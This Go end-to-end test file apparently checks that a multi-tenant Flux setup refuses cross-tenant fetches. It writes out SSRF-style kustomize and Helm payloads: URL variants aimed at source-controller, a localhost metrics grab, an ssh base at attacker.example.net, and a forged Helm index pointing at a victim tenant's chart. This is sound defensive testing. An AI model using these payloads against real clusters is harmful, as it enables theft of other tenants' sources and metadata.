package attack_test

import (
	"os"
	"path/filepath"

	"github.com/fluxcapsule/fluxcapsule/e2e/harness"
)

// deadProxy is what a controller says of a host that it is not to reach.
const deadProxy = "proxyconnect tcp: dial tcp 127.0.0.1:1: connect: connection refused"

// sourceServer is source-controller's file server: it asks nobody who they are.
const sourceServer = "source-controller.flux-system.svc.cluster.local"

// remoteAttacks have a controller of Flux's fetch what it should not: kustomize
// loads any file by http, and a chart's URL is in a repository's index.
func remoteAttacks() []attack {
	var list []attack
	for _, way := range []struct{ name, url string }{
		{"by name", "http://" + sourceServer},
		{"by absolute name", "http://" + sourceServer + "."},
		{"by short name", "http://source-controller"},
		{"by address", "http://10.0.1.10"},
		{"by mapped address", "http://[::ffff:10.0.1.10]"},
		{"with a user", "http://x@" + sourceServer},
		{"in capitals", "HTTP://" + sourceServer},
	} {
		list = append(list, attack{
			name:  "another tenant's source listed, " + way.name,
			git:   kustomizationFile(`configMapGenerator: [{name: "${id}", files: ["l=` + way.url + `/gitrepository/${victim}/attacks/"]}]`),
			flags: refusal{byEnvironment, deadProxy},
			rule:  "kustomize-remote",
		})
	}
	list = append(list, []attack{
		{
			name:  "another tenant's chart taken",
			git:   kustomizationFile(`configMapGenerator: [{name: "${id}", files: ["t=http://` + sourceServer + `./helmchart/${victim}/${victim}-app/latest.tar.gz"]}]`),
			flags: refusal{byEnvironment, deadProxy},
			rule:  "kustomize-remote",
		},
		{
			name:  "metrics of kustomize-controller, with the names of all tenants' objects",
			git:   kustomizationFile(`configMapGenerator: [{name: "${id}", files: ["m=http://localhost:8080/metrics"]}]`),
			flags: refusal{byEnvironment, `Get "http://localhost:8080/metrics": dial tcp`},
			rule:  "kustomize-remote",
		},
		{
			name:   "base by ssh, with a timeout of its own",
			git:    kustomizationFile(`resources: ["ssh://git@attacker.example.net/o/x.git?timeout=5s"]`),
			always: refusal{byFlux, "failed to run"},
			flags:  refusal{byEnvironment, "transport 'ssh' not allowed"},
		},
		{
			name:   "another tenant's chart, by the index of its own server",
			with:   attackersCA + "\n---\n" + helmRepository("https://attacker.example.net/${me}", "certSecretRef: {name: attacker}"),
			object: helmChart,
			flags:  refusal{byEnvironment, "proxyconnect tcp"},
			rule:   "flux-lockdown-source-hosts",
		},
		{
			name:   "another tenant's chart, by an index on a server that the platform allows",
			with:   helmRepository("${files}/${me}", ""),
			object: helmChart,
			flags:  refusal{byEnvironment, "proxyconnect tcp"},
			rule:   "flux-lockdown-source-hosts",
		},
	}...)
	return list
}

// kustomizationFile is a kustomization.yaml with a field.
func kustomizationFile(field string) string {
	return `{apiVersion: kustomize.config.k8s.io/v1beta1, kind: Kustomization, namespace: "${mine}", ` + field + `}`
}

func helmRepository(url, field string) string {
	return `{apiVersion: source.toolkit.fluxcd.io/v1, kind: HelmRepository, metadata: {name: "${id}", namespace: "${me}"}, spec: {url: "` + url + `", interval: 10m, ` + field + `}}`
}

// attackersCA has a HelmRepository trust the attacker's own server.
const attackersCA = `{apiVersion: v1, kind: Secret, metadata: {name: attacker, namespace: "${me}"}, stringData: {ca.crt: "${attackerCA}"}}`

const helmChart = `{apiVersion: source.toolkit.fluxcd.io/v1, kind: HelmChart, metadata: {name: "${id}", namespace: "${me}"}, spec: {chart: stolen, interval: 10m, sourceRef: {kind: HelmRepository, name: "${id}"}}}`

// evilIndex is the index of a Helm repository whose chart lies with
// source-controller, as another tenant's.
const evilIndex = `
apiVersion: v1
entries:
  stolen:
  - {apiVersion: v2, name: stolen, version: 1.0.0, created: "2026-01-01T00:00:00Z", urls: ["http://` + sourceServer + `./helmchart/${victim}/${victim}-app/app-1.0.0.tgz"]}
`

// publishIndex publishes the attacker's index on a server of its own and on one
// that the platform allows.
func (s *stage) publishIndex(c *harness.Case) {
	c.Helper()
	name := s.attacker.Name
	index := []byte((&attempt{s, ""}).expand(evilIndex))
	dir := filepath.Join(c.Env.Plane.Dir(), "charts", name)
	c.Must(os.MkdirAll(dir, 0o755))
	c.Must(os.WriteFile(filepath.Join(dir, "index.yaml"), index, 0o644))
}
